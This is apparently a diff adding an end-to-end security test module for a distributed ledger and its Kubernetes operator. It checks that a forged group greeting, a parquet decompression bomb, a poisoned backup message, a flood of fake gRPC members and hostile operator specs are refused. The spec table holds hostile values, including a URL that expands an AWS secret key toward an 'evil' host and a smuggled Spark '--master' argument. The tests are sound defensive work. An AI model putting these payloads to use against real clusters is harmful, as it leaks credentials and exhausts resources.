@@ -1,0 +1,265 @@
+"""Attacks that need no group: an empty replica, a hostile store, a user who may write BrokerGroups."""
+
+from __future__ import annotations
+
+import asyncio
+import hashlib
+import json
+import os
+import subprocess
+import sys
+import time
+import uuid
+from collections.abc import Callable
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+from typing import Any, Final
+
+import grpc
+import pyarrow as pa
+import pyarrow.parquet as pq
+from crc32c import crc32c
+
+from dledger.broker.commands import CreateTopic
+from dledger.rpc.pb import dledger_pb2 as pb
+from dledger.store.format import encode_records
+from dledger.types import Entry, EntryKind
+from dledger_operator import nodes
+from dledger_operator.build import Platform, desired
+from dledger_operator.checks import problems
+from dledger_operator.observed import Observed, Pod
+from dledger_pipeline.archive import object_name
+from dledger_pipeline.messages import decode
+from dledger_pipeline.placement import Placement
+from dledger_pipeline.records import ENTRY_SCHEMA, RecordBytes, parse
+from dledger_pipeline.sealed import seal
+from e2e.devgroup import free_port_range
+from e2e.growth.lines import Line, at_most
+from e2e.hostile.judging import GROWTH_MIB, held
+from e2e.hostile.neighbours import raw_produce
+from e2e.hostile.peers import greeted
+from e2e.hostile.scene import Scene, memory_mib
+
+_MIB: Final = 1 << 20
+_INFLATED_MIB: Final = 256
+
+
+def unjoined(work: Path) -> list[Line]:
+    """A22: an empty replica of a group is greeted by a stranger of another one."""
+    port, told = free_port_range(), str(uuid.uuid4())
+    settings = {
+        "name": "orders-3", "group": "orders", "data_dir": work / "a22",
+        "advertise_host": "127.0.0.1", "listen_host": "127.0.0.1", "client_port": port,
+        "client_tls_port": 0, "peer_port": port + 200, "replication_port": 0,
+        "http_port": port + 300, "group_id": told,
+    }  # fmt: skip
+    environ = {key: value for key, value in os.environ.items() if not key.startswith("DLEDGER_")}
+    environ |= {f"DLEDGER_{key.upper()}": str(value) for key, value in settings.items()}
+    address = f"127.0.0.1:{port + 200}"
+    scene = Scene(
+        endpoints=[f"127.0.0.1:{port}"], tls_endpoints=[], admins=[address], pids=[], leader=0,
+        seconds=1,
+    )  # fmt: skip
+    log = (work / "a22.log").open("wb")
+    process = subprocess.Popen(
+        [sys.executable, "-m", "dledger", "node"], env=environ, stdout=log, stderr=log
+    )
+    try:
+        _until_it_answers(scene)
+        with greeted(scene, 0, group_id=f"EVIL-{uuid.uuid4()}") as said:
+            time.sleep(1)
+        joined = scene.status(0).group_id
+    finally:
+        process.terminate()
+        process.wait(30)
+        log.close()
+    return [
+        held("a22: the stranger's greeting", said, "refused", isinstance(said, str)),
+        held("a22: the group it joined", joined or "none", "none of his", "EVIL" not in joined),
+    ]
+
+
+def _until_it_answers(scene: Scene) -> None:
+    end_s = time.monotonic() + 60
+    while True:
+        try:
+            scene.status(0, timeout_s=1.0)
+        except grpc.RpcError:
+            if time.monotonic() > end_s:
+                raise
+            time.sleep(0.2)
+        else:
+            return
+
+
+def parquet_bomb(work: Path) -> list[Line]:
+    """P01: an object of a few KiB with the right hash that inflates to 256 MiB."""
+    columns = [
+        pa.array([bytes(_INFLATED_MIB * _MIB)], pa.large_binary())
+        if each.name == "body"
+        else pa.array([int(each.name == "index")], each.type)
+        for each in ENTRY_SCHEMA
+    ]
+    sink = pa.BufferOutputStream()
+    pq.write_table(
+        pa.Table.from_arrays(columns, schema=ENTRY_SCHEMA), sink, compression="zstd",
+        use_dictionary=False,
+    )  # fmt: skip
+    data = sink.getvalue().to_pybytes()
+    sha = hashlib.sha256(data).hexdigest()
+    folder = work / "p01" / "gid"
+    name = object_name(1, 1, sha)
+    for part in ("data", "manifests"):
+        (folder / part).mkdir(parents=True)
+    (folder / name).write_bytes(data)
+    row = {
+        "name": name, "first_index": 1, "last_index": 1, "records": 1, "record_bytes": 100,
+        "object_bytes": len(data), "sha256": sha, "first_chain": 0, "last_chain": 0,
+        "last_term": 0, "first_timestamp_ms": 0, "last_timestamp_ms": 0,
+    }  # fmt: skip
+    body = {"group": "orders", "group_id": "gid", "term": 0, "first_index": 1, "last_index": 1,
+            "last_timestamp_ms": 0, "files": [row]}  # fmt: skip
+    (folder / "manifests" / f"{1:020}.json").write_bytes(seal(body))
+    (folder / "HEAD").write_bytes(seal({"group_id": "gid", "last_index": 1}))
+    program = (
+        "import resource, sys\n"
+        "from dledger_pipeline.__main__ import main\n"
+        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
+        "code = main(sys.argv[1:])\n"
+        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before >> 10, code)\n"
+    )
+    ran = subprocess.run(
+        [sys.executable, "-c", program, "verify", "--store", f"file://{work}/p01"],
+        capture_output=True, text=True, timeout=120, check=False,
+    )  # fmt: skip
+    grown, code = (ran.stdout.split() or ["0", "?"])[-2:]
+    return [
+        held("p01: verify", f"exit code {code}", "refused", code not in ("0", "?")),
+        at_most("p01: growth of verify", float(grown), 2 * GROWTH_MIB, "MiB"),
+    ]
+
+
+def poison_in_a_backup(work: Path) -> list[Line]:
+    """P02: an archive with a message whose id is no text; the others are read all the same."""
+    del work
+    bodies = [
+        CreateTopic(name="t", type="NORMAL", queues=2).encode(),
+        raw_produce(b"t", b"a"), raw_produce(b"t", b"\xff\xfe"), raw_produce(b"t", b"c"),
+    ]  # fmt: skip
+    log = [
+        Entry(term=1, index=n, kind=EntryKind.DATA, timestamp_ms=5, crc32c=crc32c(b), data=b)
+        for n, b in enumerate(bodies, 1)
+    ]
+    records = b"".join(encode_records(log, chain=0, position=0).buffers)
+    entries = parse(
+        RecordBytes(
+            segment="s", offset=0, data=records, positions=None, previous_chain=0, first_index=1
+        )
+    )
+    try:
+        rows: Any = decode(entries, Placement().add(entries)).num_rows
+    except Exception as error:  # noqa: BLE001 - whatever it is, it is the line's value
+        rows = f"{type(error).__name__}: {error}"
+    return [held("p02: messages read", rows, "2 at least", rows in (2, 3))]
+
+
+_WILD: Final[dict[str, dict[str, Any]]] = {
+    "expansion": {
+        "backup": {
+            "store": {"url": "s3://b/$(AWS_SECRET_ACCESS_KEY)", "secretName": "keys",
+                      "endpoint": "http://evil/$(AWS_SECRET_ACCESS_KEY)"},
+        },
+    },
+    "options": {"bootstrap": {"recovery": {"store": {"url": "s3://b/p"},
+                                           "groupId": "--master=spark://evil"}}},
+    "root": {"securityContext": {"runAsNonRoot": False, "runAsUser": 0}},
+    "unconfined": {"securityContext": {"seccompProfile": {"type": "Unconfined"}}},
+    "priority": {"priorityClassName": "system-node-critical"},
+    "networks": {"podAnnotations": {"k8s.v1.cni.cncf.io/networks": "kube-system/host"}},
+}  # fmt: skip
+
+
+def confused_deputy(work: Path) -> list[Line]:
+    """K01: what a spec may ask of the pods, and of the kubelet's expansion."""
+    del work
+    platform = Platform(image="dledger:x", spark_image="spark:x")
+    lines = []
+    for name, spec in _WILD.items():
+        metadata = {"namespace": "shop", "name": "orders", "uid": "u-1", "generation": 1}
+        group = platform.group({"metadata": metadata, "spec": spec, "status": {}})
+        said = [problem.message for problem in problems(group, Observed())]
+        if not said:
+            json.dumps([dict(each) for each in desired(group, platform)])
+        lines.append(held(f"k01: {name}", "; ".join(said) or "accepted", "refused", bool(said)))
+    return lines
+
+
+class _Liar(grpc.GenericRpcHandler):
+    """Answers whatever it is asked with two million empty members."""
+
+    def __init__(self, raw: bytes) -> None:
+        self._raw = raw
+
+    def service(self, details: Any) -> Any:
+        """Answer any method."""
+        del details
+        return grpc.unary_unary_rpc_method_handler(lambda _, __: self._raw)
+
+
+def lying_node(work: Path) -> list[Line]:
+    """K02: a tenant's node answers the operator's Status with 4 MiB of members."""
+    del work
+    field = pb.StatusResponse.DESCRIPTOR.fields_by_name["members"].number
+    answer = pb.StatusResponse(node_id="n", name="orders-0", group="orders", role="leader", term=1)
+    raw = answer.SerializeToString() + bytes([field << 3 | 2, 0]) * (2 * _MIB)
+    server = grpc.server(
+        ThreadPoolExecutor(2), handlers=(_Liar(raw),),
+        options=(("grpc.max_send_message_length", -1),), compression=grpc.Compression.Gzip,
+    )  # fmt: skip
+    host = "127.0.0.77"
+    server.add_insecure_port(f"{host}:20911")
+    server.start()
+    before = memory_mib(os.getpid()) or 0.0
+    try:
+        still_s, members = asyncio.run(_looked(host))
+    finally:
+        server.stop(0)
+    grown = (memory_mib(os.getpid()) or 0.0) - before
+    return [
+        held("k02: members believed", members, "64 at most", members <= 64),  # noqa: PLR2004
+        at_most("k02: growth of the operator", round(grown, 1), GROWTH_MIB, "MiB"),
+        at_most("k02: its loop stood still", round(still_s, 2), 2.0, "s"),
+    ]
+
+
+async def _looked(host: str) -> tuple[float, int]:
+    """Let the operator look at the node; return how long its loop stood still, and the members."""
+    worst_s = 0.0
+
+    async def pulse() -> None:
+        nonlocal worst_s
+        while True:
+            began_s = time.monotonic()
+            await asyncio.sleep(0.05)
+            worst_s = max(worst_s, time.monotonic() - began_s - 0.05)
+
+    beat = asyncio.create_task(pulse())
+    seen = nodes.Nodes("orders")
+    try:
+        found: Any = await seen.look({"orders-0": Pod(name="orders-0", ip=host)})
+        views = found.values() if hasattr(found, "values") else ()
+        members = [len(getattr(view, "members", ())) for view in views]
+    finally:
+        beat.cancel()
+        await seen.close()
+    return worst_s, max(members, default=0)
+
+
+ALONE: Final[dict[str, Callable[[Path], list[Line]]]] = {
+    "a22": unjoined,
+    "k01": confused_deputy,
+    "k02": lying_node,
+    "p01": parquet_bomb,
+    "p02": poison_in_a_backup,
+}
+"""Those that need no running group."""
